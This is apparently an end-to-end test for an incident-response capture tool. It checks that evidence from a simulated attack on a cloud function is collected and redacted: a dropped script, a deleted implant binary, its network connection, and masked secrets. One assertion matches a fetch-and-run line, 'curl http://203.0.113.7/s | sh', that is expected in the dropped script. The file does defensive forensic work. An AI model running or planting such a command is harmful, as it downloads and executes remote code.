/** The demo's attack, told from the tarball alone: what a responder would find. */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, globSync, lstatSync, mkdtempSync, readFileSync, readlinkSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { collectCase } from '../../examples/demo-case.ts';
import { amber, demo, HOME, type DemoResult } from '../../examples/demo.ts';
import { buildPackage } from '../built.ts';
import { hasPeer, missing } from '../peers.ts';

interface ProcessRow {
  readonly pid: number;
  readonly ppid: number;
  readonly comm: string;
  readonly argv: readonly string[];
  readonly exe: { readonly path: string; readonly deleted?: boolean; readonly sha256?: string };
}

interface SocketRow {
  readonly protocol: string;
  readonly state: string;
  readonly remote: { readonly address: string; readonly port: number };
  readonly owners: readonly { readonly pid: number }[];
}

const sha256 = (path: string): string => createHash('sha256').update(readFileSync(path)).digest('hex');
const peers = ['tar', 'zstd', 'bash', 'unshare'].filter((program) => !hasPeer(program));

describe('the capture of the attacked example', () => {
  const folder = mkdtempSync(join(tmpdir(), 'amber-e2e-'));
  let result: DemoResult;
  const root = (path: string): string => join(folder, '[root]', path);
  const json = (name: string): unknown => JSON.parse(readFileSync(join(folder, 'live_response', name), 'utf8'));

  before(async () => {
    if (peers.length > 0) return;
    buildPackage();
    result = await demo(() => undefined, true);
    const [tarball] = globSync(`${result.evidence}/**/capture.tar.zst`);
    assert.ok(tarball !== undefined, readFileSync(result.log, 'utf8'));
    execFileSync('tar', ['--zstd', '-xf', tarball, '-C', folder]);
  });
  after(() => {
    rmSync(folder, { recursive: true, force: true });
  });

  const implant = (): ProcessRow => {
    const rows = (json('processes.json') as { processes: readonly ProcessRow[] }).processes;
    const found = rows.find((row) => row.argv[0]?.endsWith('/.kworker'));
    assert.ok(found, JSON.stringify(rows.map((row) => row.argv)));
    return found;
  };

  test('holds the file that was dropped, and the script', (t) => {
    if (peers.length > 0) return void missing(t, peers.join(', '));
    assert.equal(sha256(root(join(result.writable, '.cache-1'))), sha256('/bin/true'));
    assert.match(
      readFileSync(root(join(result.writable, 'stage2.sh')), 'utf8'),
      /curl http:\/\/203\.0\.113\.7\/s \| sh/u,
    );
    assert.equal(lstatSync(root(join(result.writable, 'stage2.sh'))).mode & 0o111, 0o111);
  });

  test('recovers the running executable that was deleted, with the hash of what ran', (t) => {
    if (peers.length > 0) return void missing(t, peers.join(', '));
    assert.ok(!existsSync(root(join(result.writable, '.kworker'))));
    assert.equal(sha256(join(folder, 'recovered', String(implant().pid), 'exe')), sha256('/bin/sleep'));
  });

  test('names its process with parent and arguments', (t) => {
    if (peers.length > 0) return void missing(t, peers.join(', '));
    const { pid, argv, ppid, exe } = implant();
    assert.deepEqual(argv.slice(1), ['600']);
    assert.ok(ppid > 0);
    assert.equal(exe.deleted, true);
    assert.equal(exe.sha256, sha256('/bin/sleep'));
    assert.match(readlinkSync(root(`proc/${pid}/exe`)), /\.kworker \(deleted\)$/u);
  });

  test('ties its connection to the owning process', (t) => {
    if (peers.length > 0) return void missing(t, peers.join(', '));
    const { pid } = implant();
    const { inet } = json('sockets.json') as { inet: readonly SocketRow[] };
    const home = inet.filter((row) => row.remote.port === result.attackerPort);
    assert.deepEqual(
      home.map((row) => [row.protocol, row.state, row.remote.address]),
      [['tcp', 'ESTABLISHED', '127.0.0.1']],
    );
    assert.deepEqual(
      home[0]?.owners.map((owner) => owner.pid),
      [pid],
    );
  });

  test('redacts the environment and keeps the access key id', (t) => {
    if (peers.length > 0) return void missing(t, peers.join(', '));
    const everything = spawnSync('grep', ['-rl', 'correct horse battery staple', folder], { encoding: 'utf8' });
    assert.equal(everything.stdout, '');
    const environment = readFileSync(join(folder, 'live_response/environment.json'), 'utf8');
    assert.match(environment, /"DB_PASSWORD":"<redacted:[0-9a-f]{16}>"/u);
    assert.match(environment, /"AWS_SECRET_ACCESS_KEY":"<redacted:[0-9a-f]{16}>"/u);
    assert.match(environment, /"AWS_ACCESS_KEY_ID":\s*"A/u);
  });

  test('was answered by the function all the same', (t) => {
    if (peers.length > 0) return void missing(t, peers.join(', '));
    assert.equal(result.status, 0);
  });

  test('goes on into a case: the code-level evidence beside it, asked for the access key of the capture, and both verified', async (t) => {
    if (peers.length > 0) return void missing(t, peers.join(', '));
    const collected = await collectCase({ evidence: result.evidence, home: HOME }, amber);
    if (typeof collected === 'string') return void missing(t, collected);
    assert.equal(collected, 1, 'one layer of another account is denied');
    const manifests = globSync(`${result.evidence}/**/manifest.json`)
      .sort()
      .map(
        (path) =>
          JSON.parse(readFileSync(path, 'utf8')) as {
            state: string;
            cause: { trigger: string };
            identity: { functionName: string };
          },
      );
    assert.deepEqual(
      manifests.map(({ state, cause, identity }) => [state, cause.trigger, identity.functionName]),
      [
        ['whole', 'flag', 'checkout'],
        ['whole', 'collect', 'checkout'],
      ],
    );
    assert.equal(await amber('verify', result.evidence, '--all'), 0);
    const listed = execFileSync(
      'tar',
      ['--zstd', '-tf', globSync(`${result.evidence}/**/capture.tar.zst`).sort().at(-1) ?? ''],
      { encoding: 'utf8' },
    );
    for (const wanted of [
      /function\/5\/code\.zip/u,
      /layers\/123456789012-vendor-sdk-1\/layer\.zip/u,
      /roles\/checkout-role\/role\.json/u,
      /logs\/shop\/checkout-logs\/2025/u,
      /cloudtrail\/eu-central-1\/AccessKeyId=ASIAIOSFODNN7EXAMPLE/u,
    ])
      assert.match(listed, wanted);
  });
});
